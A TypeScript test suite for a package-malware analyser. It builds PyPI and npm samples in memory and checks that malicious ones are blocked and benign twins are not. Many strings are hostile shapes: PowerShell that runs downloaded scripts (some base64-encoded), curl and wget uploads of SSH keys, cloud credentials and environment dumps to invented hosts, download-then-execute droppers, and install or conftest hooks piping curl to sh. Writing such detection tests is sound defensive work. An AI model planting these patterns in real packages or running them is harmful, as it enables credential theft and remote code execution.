/**
 * The `pkg22` round (docs/package-analysis.md, "pkg22"): four behaviours the analysis missed, each as a
 * general rule with its real shape, variants written here (other syntax, tool, language, distance, role)
 * and the honest twins it must not flag (neither BLOCKED nor CAUTION):
 *
 *  - PowerShell running a download from Python or JavaScript: as a script block
 *    (`& ([scriptblock]::Create((iwr …)))`, through a PowerShell variable, `Invoke-Command`), or inside an
 *    `-EncodedCommand` the code builds from a literal script;
 *  - a command-line client uploading a file (`curl -F f=@p`, `--data-binary @p`, `-T p`, wget
 *    `--post-file`): a send of what the file holds;
 *  - `urlretrieve(url, path)` then the path started, opened by the system or imported, whatever the
 *    spelling of the path (keywords, f-strings, words of a shell string, `import x` after `sys.path`);
 *  - a conftest.py pytest loads on a plain run, deeper than `src/` (roles.ts `pythonAutoSeeds`).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`, TEST-NET addresses).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { powershellRemoteRun, remoteRun } from '../../shared/packages/analysis/remote-run.js';
import { pytestTestpaths, pythonAutoSeeds } from '../../shared/packages/analysis/roles.js';
import { rateNpmFiles } from '../support/blind-halves.js';
import { blocked, honest, rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const py = (name: string, file: string, src: string) => sdist(name, { [file]: src });

/** A package whose `package.json` names `index.js` and `scripts`, with `files`, rated as the blind suites rate (no registry host of its own). */
const npmRate = (
  name: string,
  files: Record<string, string>,
  scripts: Record<string, string> = {},
): Promise<{ level: string; rules: string[] }> =>
  rateNpmFiles(
    { 'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts }), ...files },
    { name, version: '1.0.0', registryHosts: [] },
  );

// ---- PowerShell running a download -----------------------------------------------------------------------

test('remoteRun: a PowerShell script block made of a download runs it; one made of a local file does not', () => {
  // The shape a CLI's self-update uses to hand parameters to its installer (an honest sdist of the calibration set has it, from its own host).
  assert.ok(
    remoteRun(
      'powershell -NoProfile -Command & ([scriptblock]::Create((iwr -useb https://x.example/install.ps1))) -Flag',
    ),
  );
  assert.ok(remoteRun('$s = irm https://x.example/p.ps1; & ([ScriptBlock]::Create($s))'));
  assert.ok(
    remoteRun(
      'Invoke-Command -ScriptBlock ([System.Management.Automation.ScriptBlock]::Create((New-Object Net.WebClient).DownloadString("https://x.example/p")))',
    ),
  );
  assert.is(remoteRun('powershell -Command & ([scriptblock]::Create((Get-Content setup.ps1 -Raw)))'), null);
  assert.is(remoteRun('powershell -c iwr https://x.example/d.zip -OutFile d.zip; Expand-Archive d.zip'), null);
  assert.is(powershellRemoteRun('powershell -NoProfile -Command Get-Clipboard'), null);
  assert.is(
    powershellRemoteRun('curl -s https://x.example/a | sh'),
    null,
    'PowerShell only: the JavaScript flow reads shells itself',
  );
});

test('PowerShell from Python: a script block or an encoded command that runs a download is BLOCKED (import, install, runtime)', async () => {
  await blocked(
    py(
      'ps-var',
      'ps_var/__init__.py',
      "import subprocess\nPS = '$s = irm https://x.example/p.ps1; & ([scriptblock]::Create($s))'\nsubprocess.run(['powershell.exe', '-Command', PS])\n",
    ),
    'shell_remote_command',
  );
  await blocked(
    py(
      'ps-invoke',
      'ps_invoke/__init__.py',
      "import subprocess\nsubprocess.run('powershell Invoke-Command -ScriptBlock ([scriptblock]::Create((Invoke-RestMethod https://x.example/p)))', shell=True)\n",
    ),
  );
  // -EncodedCommand built in place from a literal script (UTF-16LE, base64): the script is what runs.
  await blocked(
    py(
      'ps-enc',
      'ps_enc/__init__.py',
      "import base64, subprocess\nscript = \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')\"\nenc = base64.b64encode(script.encode('utf-16le')).decode()\nsubprocess.Popen(['powershell', '-EncodedCommand', enc])\n",
    ),
    'shell_remote_command',
  );
  await blocked(
    sdist('ps-setup', {
      'setup.py':
        "import subprocess\nfrom setuptools import setup\nsubprocess.call('powershell -ExecutionPolicy Bypass -Command \"& ([scriptblock]::Create((iwr http://198.51.100.9/i.ps1 -UseBasicParsing).Content))\"', shell=True)\nsetup(name='ps-setup', version='1.0.0', packages=['ps_setup'])\n",
    }),
  );
  // In a function the user calls, from a host that is not the package's: as `curl … | sh` there.
  await blocked(
    py(
      'ps-runtime',
      'ps_runtime/tools.py',
      "import subprocess\n\n\ndef update():\n    subprocess.run(['powershell', '-c', '& ([scriptblock]::Create((irm https://get.other-vendor.example/i.ps1)))'])\n",
    ),
    'shell_remote_command',
  );
});

test('PowerShell from Python, honest twins: the clipboard, an encoded harmless script, a local script block, a data download', async () => {
  await honest(
    py(
      'tw-clip',
      'tw_clip/clip.py',
      "import subprocess\n\n\ndef paste():\n    return subprocess.run(['powershell', '-NoProfile', '-Command', 'Get-Clipboard'], capture_output=True, text=True).stdout\n",
    ),
  );
  await honest(
    py(
      'tw-enc',
      'tw_enc/clip.py',
      "import base64, subprocess\n\n\ndef copy(text):\n    script = f\"Set-Clipboard -Value '{text}'\"\n    enc = base64.b64encode(script.encode('utf-16le')).decode()\n    subprocess.run(['powershell', '-NoProfile', '-EncodedCommand', enc], check=True)\n",
    ),
  );
  await honest(
    py(
      'tw-local-sb',
      'tw_local_sb/__init__.py',
      "import subprocess\nsubprocess.run(['powershell', '-NoProfile', '-Command', '& ([scriptblock]::Create((Get-Content setup.ps1 -Raw)))'])\n",
    ),
  );
  // PowerShell saving a data file: the pattern scan's remote pipe, not confirmed by the parsed flow (was BLOCKED).
  await honest(
    py(
      'tw-ps-data',
      'tw_ps_data/fetch.py',
      "import subprocess\n\n\ndef fetch():\n    subprocess.run(['powershell', '-c', 'iwr https://data.example/d.zip -OutFile d.zip; Expand-Archive d.zip -DestinationPath data'])\n",
    ),
  );
});

test('PowerShell from JavaScript: a script block, an evaluated download in argv, an -EncodedCommand of Buffer.from(script, utf16le)', async () => {
  const cases: [string, string][] = [
    [
      'js-sb',
      "const { execSync } = require('child_process');\nexecSync('powershell -NoProfile -Command \"& ([scriptblock]::Create((iwr -useb https://x.example/a.ps1)))\"');\nmodule.exports = 1;\n",
    ],
    [
      'js-sb-argv',
      "const cp = require('child_process');\ncp.spawn('powershell.exe', ['-NoProfile', '-Command', '$s = irm https://x.example/p.ps1; & ([scriptblock]::Create($s))'], { stdio: 'ignore' });\nmodule.exports = 1;\n",
    ],
    [
      'js-enc',
      "const cp = require('child_process');\nconst ps = \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')\";\ncp.spawn('powershell', ['-EncodedCommand', Buffer.from(ps, 'utf16le').toString('base64')]);\nmodule.exports = 1;\n",
    ],
  ];
  for (const [name, src] of cases) {
    const r = await npmRate(name, { 'index.js': src });
    assert.is(r.level, 'BLOCKED', `${name}: ${r.rules.join(', ')}`);
  }
  for (const [name, src] of [
    [
      'tw-js-clip',
      "const { execSync } = require('child_process');\nexports.paste = () => execSync('powershell -NoProfile -Command Get-Clipboard').toString();\n",
    ],
    [
      'tw-js-enc',
      "const cp = require('child_process');\nexports.copy = (t) => cp.spawnSync('powershell', ['-NoProfile', '-EncodedCommand', Buffer.from(`Set-Clipboard -Value '${t}'`, 'utf16le').toString('base64')]);\n",
    ],
  ]) {
    const r = await npmRate(name!, { 'index.js': src! });
    assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${name}: ${r.level} (${r.rules.join(', ')})`);
  }
});

// ---- a command-line client uploading a file ------------------------------------------------------------------

test('curl / wget uploads are sends of the file they name: credential stores and files written with the environment', async () => {
  // The real shape (a held-out corpus sample of an earlier round, described in docs/package-analysis.md):
  // credential files uploaded with `curl -F file=@…` to an address.
  await blocked(
    py(
      'up-f',
      'up_f/__init__.py',
      "import os\nkey = os.path.expanduser('~/.ssh/id_rsa')\nos.system(f'curl -s -F \"file=@{key}\" https://drop.up-f.example/u')\n",
    ),
    'credential_exfil_flow',
  );
  await blocked(
    py(
      'up-bin',
      'up_bin/__init__.py',
      "import os, subprocess\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nsubprocess.run(['curl', '--data-binary', '@' + p, 'https://c.example/in'], capture_output=True)\n",
    ),
    'credential_exfil_flow',
  );
  await blocked(
    py(
      'up-t',
      'up_t/__init__.py',
      "import os, json, subprocess\nwith open('/tmp/.e', 'w') as f:\n    json.dump(dict(os.environ), f)\nsubprocess.run(['curl', '-T', '/tmp/.e', 'https://c.example/put'])\n",
    ),
    'env_exfil_flow',
  );
  await blocked(
    py(
      'up-wget',
      'up_wget/__init__.py',
      "import os\nos.system('wget -q --post-file=' + os.path.expanduser('~/.git-credentials') + ' https://w.example/x -O /dev/null')\n",
    ),
    'credential_exfil_flow',
  );
  // All literal, with $HOME, in setup.py; and in a function the user calls.
  await blocked(
    sdist('up-setup', {
      'setup.py':
        "import os\nfrom setuptools import setup\nos.system('curl -F f=@$HOME/.npmrc https://n.example/up')\nsetup(name='up-setup', version='1.0.0')\n",
    }),
    'credential_exfil_flow',
  );
  await blocked(
    py(
      'up-rt',
      'up_rt/api.py',
      "import os, subprocess\n\n\ndef sync():\n    subprocess.run(['curl', '-F', 'k=@' + os.path.expanduser('~/.kube/config'), 'https://k.example/u'])\n",
    ),
    'credential_exfil_flow',
  );
});

test('curl uploads, honest twins: a release upload of a build artefact, a public key, a coverage report, a JSON report', async () => {
  await honest(
    py(
      'tw-wheel',
      'tw_wheel/release.py',
      "import os, subprocess\n\n\ndef upload(name):\n    wheel = os.path.join('dist', name)\n    subprocess.run(['curl', '-F', f'file=@{wheel}', 'https://upload.example/api/v1'], check=True)\n",
    ),
  );
  await honest(
    py(
      'tw-pub',
      'tw_pub/deploy.py',
      "import os\n\n\ndef add_key():\n    os.system('curl -F key=@' + os.path.expanduser('~/.ssh/id_ed25519.pub') + ' https://deploy.example/keys')\n",
    ),
  );
  await honest(
    py(
      'tw-cov',
      'tw_cov/__init__.py',
      "import subprocess\nsubprocess.run(['curl', '-s', '-T', 'coverage.xml', 'https://cov.example/upload'])\n",
    ),
  );
  await honest(
    py(
      'tw-json',
      'tw_json/report.py',
      "import json, subprocess\n\n\ndef send(report):\n    with open('payload.json', 'w') as f:\n        json.dump({'ok': report.ok, 'n': report.n}, f)\n    subprocess.run(['curl', '--data-binary', '@payload.json', 'https://ci.example/r'])\n",
    ),
  );
});

test("curl / wget uploads from an npm install script: a credential store's content sent (secret_send); twins not", async () => {
  const hook = { postinstall: 'node install.js' };
  const cases: [string, string][] = [
    ['js-up-lit', "require('child_process').execSync('curl -s -T ~/.ssh/id_rsa https://drop.example/u');\n"],
    [
      'js-up-wget',
      "require('child_process').exec('wget -q --post-file=$HOME/.aws/credentials https://drop.example/u');\n",
    ],
    [
      'js-up-argv',
      "const p = require('path').join(process.env.HOME, '.kube', 'config');\nrequire('child_process').execFileSync('curl', ['-F', 'k=@' + p, 'https://drop.example/u']);\n",
    ],
    [
      'js-up-tpl',
      "const os = require('os'), path = require('path');\nconst k = path.join(os.homedir(), '.ssh', 'id_rsa');\nrequire('child_process').execSync(`curl -s -F \"f=@${k}\" https://drop.example/u`);\n",
    ],
  ];
  for (const [name, src] of cases) {
    const r = await npmRate(name, { 'install.js': src, 'index.js': 'module.exports = 1;\n' }, hook);
    assert.is(r.level, 'BLOCKED', `${name}: ${r.rules.join(', ')}`);
    assert.ok(r.rules.includes('secret_send:CRITICAL'), `${name}: ${r.rules.join(', ')}`);
  }
  for (const [name, src] of [
    [
      'tw-js-up-dist',
      "require('child_process').execFileSync('curl', ['-F', 'file=@dist/app.tgz', 'https://upload.example/api']);\n",
    ],
    [
      'tw-js-up-pub',
      "require('child_process').execSync('curl -s -F key=@~/.ssh/id_ed25519.pub https://deploy.example/keys');\n",
    ],
  ]) {
    const r = await npmRate(name!, { 'install.js': src!, 'index.js': 'module.exports = 1;\n' }, hook);
    assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${name}: ${r.level} (${r.rules.join(', ')})`);
  }
});

// ---- urlretrieve, then the file run or imported ------------------------------------------------------------

test('urlretrieve then run, opened or imported, whatever the spelling of the path, is BLOCKED', async () => {
  // The real shape (a download_exec sample of the tuned corpus half): urlretrieve(url, file_path), subprocess.run([file_path]).
  await blocked(
    py(
      'ur-real',
      'ur_real/helper.py',
      "import os, urllib.request, subprocess\n\n\ndef update(url):\n    d = 'src/storage'\n    os.makedirs(d, exist_ok=True)\n    file_path = os.path.join(d, 'helper.exe')\n    urllib.request.urlretrieve(url, file_path)\n    subprocess.run([file_path], check=True)\n\n\nupdate('https://x.example/h.exe')\n",
    ),
  );
  // Keyword arguments, the same literal path, os.startfile.
  await blocked(
    py(
      'ur-kw',
      'ur_kw/__init__.py',
      "import os, urllib.request as ur\nur.urlretrieve(url='https://x.example/a.exe', filename='C:/Users/Public/a.exe')\nos.startfile('C:/Users/Public/a.exe')\n",
    ),
    'download_execute',
  );
  // The path as an f-string in both places, the run a word of a shell command.
  await blocked(
    py(
      'ur-fstr',
      'ur_fstr/__init__.py',
      "import os, urllib.request\nname = 'agent'\nurllib.request.urlretrieve('https://x.example/a', f'/tmp/{name}')\nos.chmod(f'/tmp/{name}', 0o755)\nos.system(f'/tmp/{name} &')\n",
    ),
    'download_execute',
  );
  // A downloaded module imported by an import statement after its folder joins sys.path.
  await blocked(
    py(
      'ur-imp',
      'ur_imp/__init__.py',
      "import sys, urllib.request\nurllib.request.urlretrieve('https://x.example/m.py', '/tmp/_upd.py')\nsys.path.append('/tmp')\nimport _upd\n",
    ),
    'remote_code_exec',
  );
  await blocked(
    py(
      'ur-from',
      'ur_from/__init__.py',
      "import sys, urllib.request\n\n\ndef load():\n    urllib.request.urlretrieve('https://x.example/m.py', '/tmp/plug_x.py')\n    sys.path.insert(0, '/tmp')\n    from plug_x import run\n    run()\n\n\nload()\n",
    ),
    'remote_code_exec',
  );
});

test('urlretrieve, honest twins: a data file read, a module imported before the download, a zip on the path', async () => {
  await honest(
    py(
      'tw-csv',
      'tw_csv/__init__.py',
      "import os, urllib.request, csv\nP = os.path.expanduser('~/.cache/tw/iris.csv')\nurllib.request.urlretrieve('https://data.example/iris.csv', P)\nrows = list(csv.reader(open(P)))\n",
    ),
  );
  // `import schema` runs before the download (the package's own module), and the downloaded copy is only read.
  await honest(
    sdist('tw-schema', {
      'tw_schema/__init__.py':
        "import sys, json\nimport schema\nfrom urllib.request import urlretrieve\nsys.path.insert(0, '.')\nurlretrieve('https://x.example/schema.py', '/tmp/schema.py')\nSRC = open('/tmp/schema.py').read()\n",
      'tw_schema/schema.py': 'X = 1\n',
    }),
  );
  // A downloaded tarball handed to tar is read, not run (a command string, an argument list); was BLOCKED
  // (download_execute) when the archive was the string's last word or any element of the list.
  await honest(
    py(
      'tw-tar',
      'tw_tar/__init__.py',
      "import os, urllib.request\nurllib.request.urlretrieve('https://data.example/x.tgz', 'x.tgz')\nos.system('tar xzf x.tgz')\n",
    ),
  );
  await honest(
    py(
      'tw-tar-list',
      'tw_tar_list/data.py',
      "import subprocess, urllib.request\n\n\ndef fetch():\n    p = '/tmp/x.tgz'\n    urllib.request.urlretrieve('https://data.example/x.tgz', p)\n    subprocess.run(['tar', 'xzf', p, '-C', '/tmp/x'])\n",
    ),
  );
  // Handed to a launcher it runs: `[sys.executable, p]`, `cmd /c start`.
  await blocked(
    py(
      'ur-launch',
      'ur_launch/__init__.py',
      "import sys, subprocess, urllib.request\np = '/tmp/.u.py'\nurllib.request.urlretrieve('https://x.example/u.py', p)\nsubprocess.Popen([sys.executable, p])\n",
    ),
    'download_execute',
  );
  await blocked(
    py(
      'ur-cmd',
      'ur_cmd/__init__.py',
      "import subprocess, urllib.request\np = 'C:/Users/Public/u.exe'\nurllib.request.urlretrieve('https://x.example/u.exe', p)\nsubprocess.Popen(['cmd', '/c', 'start', '', p])\n",
    ),
    'download_execute',
  );
  // A zip is imported by the modules inside it, not by its own name.
  await honest(
    sdist('tw-zip', {
      'tw_zip/__init__.py':
        "import sys, urllib.request\nurllib.request.urlretrieve('https://x.example/words.zip', '/tmp/words.zip')\nsys.path.append('/tmp')\nimport words\n",
      'tw_zip/words.py': 'W = []\n',
    }),
  );
});

test("a downloaded file moved, or a program out of a downloaded archive, then started: BLOCKED at import or install; a tool manager's on request is not", async () => {
  await blocked(
    py(
      'ur-move',
      'ur_move/__init__.py',
      "import os, shutil, urllib.request\nurllib.request.urlretrieve('https://x.example/a.bin', '/tmp/a.bin')\nshutil.move('/tmp/a.bin', '/tmp/svchost.exe')\nos.startfile('/tmp/svchost.exe')\n",
    ),
    'download_execute',
  );
  await blocked(
    py(
      'ur-zip',
      'ur_zip/__init__.py',
      "import os, zipfile, subprocess, tempfile, urllib.request\nd = tempfile.mkdtemp()\nz = os.path.join(d, 'u.zip')\nurllib.request.urlretrieve('https://x.example/u.zip', z)\nzipfile.ZipFile(z).extractall(d)\nsubprocess.Popen([os.path.join(d, 'Updater.exe')])\n",
    ),
    'archive_download_execute',
  );
  // Fetched bytes extracted in memory, a literal folder and a literal path below it.
  await blocked(
    py(
      'req-zip',
      'req_zip/__init__.py',
      "import io, zipfile, subprocess, requests\nr = requests.get('https://x.example/u.zip')\nzipfile.ZipFile(io.BytesIO(r.content)).extractall('C:/ProgramData/upd')\nsubprocess.Popen(['C:/ProgramData/upd/upd.exe'])\n",
    ),
    'archive_download_execute',
  );
  // `with ZipFile(…) as zf: zf.extractall(d)`, the run a concatenation under d.
  await blocked(
    py(
      'ur-zip-with',
      'ur_zip_with/__init__.py',
      "import os, zipfile, subprocess, urllib.request\nd = os.path.join(os.environ.get('APPDATA', '/tmp'), 'svc')\nurllib.request.urlretrieve('https://x.example/p.zip', 'p.zip')\nwith zipfile.ZipFile('p.zip') as zf:\n    zf.extractall(d)\nsubprocess.Popen(d + '/svc.exe', shell=True)\n",
    ),
    'archive_download_execute',
  );
  // Honest: a data archive extracted and read; a tool manager fetching its binary as a zip and asking its version, in a function the user calls.
  await honest(
    py(
      'tw-zip-data',
      'tw_zip_data/__init__.py',
      "import os, zipfile, urllib.request, json\nd = os.path.expanduser('~/.cache/twz')\nz = os.path.join(d, 'data.zip')\nurllib.request.urlretrieve('https://data.example/data.zip', z)\nzipfile.ZipFile(z).extractall(d)\nDATA = json.load(open(os.path.join(d, 'data.json')))\n",
    ),
  );
  await honest(
    py(
      'tw-tunnel-mgr',
      'tw_tunnel_mgr/installer.py',
      "import os, zipfile, subprocess, urllib.request\n\n\ndef install(bin_dir):\n    z = os.path.join(bin_dir, 'tunnel.zip')\n    urllib.request.urlretrieve('https://bin.tunnel.example/tunnel-stable-linux-amd64.zip', z)\n    with zipfile.ZipFile(z) as zf:\n        zf.extractall(bin_dir)\n    return subprocess.check_output([os.path.join(bin_dir, 'tunnel'), 'version'])\n",
    ),
  );
});

// ---- conftest.py deeper than src/ ------------------------------------------------------------------------

test("roles: every conftest.py a plain pytest run loads is import-time, except a test suite's own and pruned folders", () => {
  const root = 'p-1.0/';
  const paths = new Set(
    [
      'conftest.py',
      'src/conftest.py',
      'src/pkg/conftest.py',
      'pkg/sub/conftest.py',
      'docs/conftest.py',
      'tests/conftest.py',
      'tests/unit/conftest.py',
      'integration/conftest.py',
      'integration/test_db.py',
      'build/lib/pkg/conftest.py',
      '.tox/py/conftest.py',
      'x.egg/conftest.py',
      'pkg/not_conftest.py',
    ].map((p) => root + p),
  );
  assert.equal(
    pythonAutoSeeds(root, paths),
    ['conftest.py', 'docs/conftest.py', 'src/conftest.py', 'pkg/sub/conftest.py', 'src/pkg/conftest.py'].map(
      (p) => root + p,
    ),
  );
  // With testpaths declared, pytest collects only there (and loads the conftest.py of the folders above).
  assert.equal(
    pythonAutoSeeds(root, paths, ['src/pkg']),
    ['conftest.py', 'src/conftest.py', 'src/pkg/conftest.py'].map((p) => root + p),
  );
  assert.equal(pytestTestpaths('[tool.pytest.ini_options]\nminversion = "6.0"\ntestpaths = ["tests", "src/pkg"]\n'), [
    'tests',
    'src/pkg',
  ]);
  assert.equal(
    pytestTestpaths(undefined, '[metadata]\nname = p\n\n[tool:pytest]\ntestpaths =\n    tests\n    docs\n'),
    ['tests', 'docs'],
  );
  assert.is(pytestTestpaths('[tool.black]\nline-length = 100\n', '[flake8]\nmax-line-length = 100\n'), null);
});

test("conftest.py in the package's folders runs on any test run: judged as import-time code (BLOCKED); a test suite's own stays a test file", async () => {
  await blocked(
    py('cf-pkg', 'cf_pkg/conftest.py', "import os\nos.system('curl -fsSL http://198.51.100.23/s.sh | sh')\n"),
  );
  await blocked(
    py(
      'cf-src',
      'src/cf_src/conftest.py',
      "import urllib.request\nexec(urllib.request.urlopen('https://x.example/c').read())\n",
    ),
  );
  // A pytest hook of a conftest.py two folders down: pytest calls it.
  await blocked(
    py(
      'cf-hook',
      'cf_hook/sub/conftest.py',
      "import os, base64\n\n\ndef pytest_configure(config):\n    exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTk4LjUxLjEwMC4yL3N8c2gnKQ=='))\n",
    ),
  );
  // Honest: a doctest fixture file in the package; a test suite's conftest.py (next to its tests) that fetches a fixture.
  await honest(
    py(
      'tw-cf-doc',
      'tw_cf_doc/conftest.py',
      "import pytest\nimport numpy\n\n\n@pytest.fixture(autouse=True)\ndef add_np(doctest_namespace):\n    doctest_namespace['np'] = numpy\n",
    ),
  );
  await honest(
    sdist('tw-cf-integ', {
      'integration/conftest.py': "import os\nos.system('curl -fsSL https://get.emu.example/install.sh | sh')\n",
      'integration/test_db.py': 'def test_x():\n    pass\n',
    }),
  );
  const r = await rate(
    py(
      'tw-cf-tests',
      'tests/conftest.py',
      "import urllib.request\nexec(urllib.request.urlopen('https://x.example/c').read())\n",
    ),
  );
  assert.ok(r.level !== 'BLOCKED', `tests/conftest.py alone never blocks: ${r.level}`);
});

test.run();
